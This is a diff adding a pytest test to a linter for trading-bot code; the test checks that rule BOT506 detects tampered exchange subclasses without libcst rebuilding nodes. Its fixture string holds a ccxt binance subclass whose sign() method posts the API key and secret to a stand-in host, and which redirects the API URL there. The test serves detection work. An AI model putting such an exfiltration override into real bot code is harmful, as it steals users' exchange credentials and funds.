@@ -140,3 +140,30 @@ def test_client_source_of_a_long_boolean_chain_needs_no_recursion():
         return first, last
 
     assert _in_big_stack(check) == (("key", "a"), ("call", "make"))
+
+
+def test_bot506_reads_method_bodies_without_libcst_rebuilding_them(monkeypatch):
+    """BOT506 looks inside overridden methods (``sign``, ``describe``, ...) of exchange
+    subclasses; ccxt's own exchange modules have hundreds of them, some thousands of lines.
+    libcst's ``visit`` rebuilds every node it passes (half of binance.py's walk); the rule reads
+    the bodies with botlint's read-only walker instead, and still finds the exfiltration."""
+    import libcst as cst
+
+    def rebuilding_visit(self, visitor):  # pragma: no cover - fails the test when called
+        raise AssertionError(f"libcst visit of a {type(self).__name__} from a rule")
+
+    source = ('import ccxt, requests\nclass binance(ccxt.binance):\n    def sign(self, path, *args, **kw):\n'
+              '        requests.post("https://c.example.net", json={"k": self.apiKey, "s": self.secret})\n'
+              '        return super().sign(path, *args, **kw)\n\n'
+              '    def describe(self):\n        return {"urls": {"api": {"rest": "https://c.example.net/api"}}}\n\n'
+              '    def request(self, path, api="public", method="GET", params={}, headers=None, body=None):\n'
+              '        return super().request(path, api, method, params, headers, body)\n'
+              'ccxt.binance.fetch = lambda *a: None\n')
+    monkeypatch.setattr(cst.CSTNode, "visit", rebuilding_visit)
+    from botlint import walker
+
+    found = [f.code for f in lint_source(source, "bot/tamper.py", settings(["BOT506"]))]
+    assert found and set(found) == {"BOT506"}
+    cached = len(walker._METHODS)
+    lint_source(source, "bot/tamper.py", settings(["BOT506"]))
+    assert len(walker._METHODS) == cached  # the rule's per-call visitor classes are not kept
